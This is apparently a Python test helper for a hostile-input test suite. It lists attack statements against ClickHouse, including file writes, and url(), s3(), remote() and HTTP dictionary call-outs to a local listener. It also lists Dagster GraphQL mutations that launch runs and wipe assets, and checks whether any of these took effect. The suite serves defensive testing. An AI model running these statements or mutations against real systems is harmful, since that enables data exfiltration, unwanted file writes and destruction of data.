"""What both the browser's and the raw attacks try at ClickHouse's and Dagster's ports, and how its effect is seen from outside.

Here: statements, mutations, effects on disk. Not here: how they are sent (browser.py, requests.py).
"""

from __future__ import annotations

import contextlib
import json
import sqlite3
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

from tests.chaos.hostile import wire
from tests.chaos.hostile.house import House, in_time

SETTLE_SECONDS = 1.5  # an effect that has not shown by then is taken for none


@dataclass
class Prey:
    """What one attack would leave: a table, a file, hits on a listener, runs and wiped assets in Dagster."""

    house: House
    listener: wire.Listener
    table: str = field(default_factory=lambda: f"pwned_{uuid.uuid4().hex[:12]}")

    def __post_init__(self):
        self.file = self.house.folder / f"{self.table}.txt"
        self.runs = dagster_runs(self.house)
        self.wiped = dagster_wiped(self.house)

    # --- what is tried ---

    @property
    def create(self) -> str:
        return f"CREATE TABLE {self.table} (a Int32) ENGINE = Memory"

    def statements(self) -> dict[str, str]:
        """By name: what writes, reads files or calls out, none of which a page or a reader may do."""
        hook = f"http://127.0.0.1:{self.listener.port}"
        return {
            "create": self.create,
            "create_as": f"CREATE TABLE {self.table} ENGINE = MergeTree ORDER BY a AS SELECT 1 AS a",
            "create_view": f"CREATE VIEW {self.table} AS SELECT 1",
            "create_database": f"CREATE DATABASE {self.table}",
            "outfile": f"SELECT 1 INTO OUTFILE '{self.file}' FORMAT TSV",
            "insert_file": f"INSERT INTO FUNCTION file('{self.file}', 'TSV', 'a Int32') SELECT 1",
            "insert_url": f"INSERT INTO FUNCTION url('{hook}/insert_url', 'TSV', 'a Int32') SELECT 1",
            "select_url": f"SELECT * FROM url('{hook}/select_url', 'TSV', 'a Int32')",
            "select_s3": f"SELECT * FROM s3('{hook}/bucket/select_s3', 'k', 's', 'TSV', 'a Int32')",
            "select_remote": f"SELECT * FROM remote('127.0.0.1:{self.listener.port}', system.one)",
            "insert_remote_url_table": f"CREATE TABLE {self.table} (a Int32) ENGINE = URL('{hook}/engine', 'TSV')",
            "dictionary": f"CREATE DICTIONARY {self.table} (a Int32) PRIMARY KEY a SOURCE(HTTP(URL '{hook}/dict' FORMAT 'TSV')) "
                          "LAYOUT(FLAT()) LIFETIME(0)",
            "backup": f"BACKUP TABLE loads TO File('{self.file}')",
        }  # fmt: skip

    # --- what is seen ---

    def effects(self, settle_s: float = SETTLE_SECONDS) -> list[str]:
        """What the attack left, as texts; waits a little for the first."""
        return in_time(self._effects, settle_s) or []

    def _effects(self) -> list[str]:
        found = []
        if table_exists(self.house, self.table):
            found.append(f"table {self.table} was made")
        if self.file.exists():
            found.append(f"file {self.file.name} was written")
        found += [f"called out: {hit}" for hit in self.listener.hits[:3]]
        if (runs := dagster_runs(self.house)) > self.runs:
            found.append(f"{runs - self.runs} runs launched in Dagster")
        if dagster_wiped(self.house) > self.wiped:
            found.append("materializations wiped in Dagster")
        return found

    def verdict(self, settle_s: float = SETTLE_SECONDS) -> str | None:
        found = self.effects(settle_s)
        return "; ".join(found) or None


@contextlib.contextmanager
def prey(house: House) -> Iterator[Prey]:
    with wire.Listener() as listener:
        yield Prey(house, listener)


def table_exists(house: House, name: str) -> bool:
    """Looked up on disk: whoever asks by HTTP may be refused, too. The engine leaves NAME.sql, for a database a link or a file of it."""
    metadata = house.home / "clickhouse" / "metadata"
    return any(metadata.glob(f"*/{name}.sql")) or any(metadata.glob(f"{name}*")) or any((house.home / "clickhouse" / "store").glob(f"*/*/{name}.sql"))


# --- Dagster ----------------------------------------------------------------------------------------------------------


def dagster_runs(house: House) -> int:
    """Runs of the attacks' job in Dagster's storage, but those that its own schedule has launched."""
    sql = "SELECT count(*) FROM runs WHERE run_body LIKE '%tidy_lake%' AND run_body NOT LIKE '%dagster/schedule_name%'"
    return _one(house.home / "dagster" / "history" / "runs.db", sql)


def dagster_wiped(house: House) -> str:
    """When an asset's materializations were last wiped; empty for never."""
    return _one(_index(house), "SELECT max(wipe_timestamp) FROM asset_keys") or ""


def _index(house: House) -> Path:
    return house.home / "dagster" / "history" / "runs" / "index.db"


def _one(path: Path, sql: str):
    """The first value of a SELECT on one of Dagster's SQLite files, 0 where there is nothing yet."""
    if not path.exists():
        return 0
    for _ in range(20):
        try:
            with contextlib.closing(sqlite3.connect(f"file:{path}?mode=ro", uri=True, timeout=2)) as database:
                return database.execute(sql).fetchone()[0]
        except sqlite3.OperationalError as error:
            if "no such table" in str(error):
                return 0
            time.sleep(0.1)
    raise OSError(f"{path} cannot be read")


# A job that does little should it be launched: housekeeping of a lake of some files.
LAUNCH = (
    'mutation { launchRun(executionParams: {selector: {repositoryLocationName: "glasshouse", repositoryName: "__repository__", '
    'jobName: "tidy_lake"}, mode: "default"}) { __typename ... on PythonError { message } } }'
)
WIPE = 'mutation { wipeAssets(assetPartitionRanges: [{assetKey: {path: ["events"]}}]) { __typename ... on PythonError { message } } }'
ASK = "{ version }"
MUTATIONS = {"launch": LAUNCH, "wipe": WIPE}


def graphql_body(text: str) -> bytes:
    return json.dumps({"query": text}).encode()


def events_are_known(house: House) -> None:
    """Wait until Dagster knows the asset `events`, which the live labeler reports: before, there is nothing to wipe."""
    in_time(lambda: _one(_index(house), "SELECT count(*) FROM asset_keys WHERE asset_key = '[\"events\"]'"), 20)
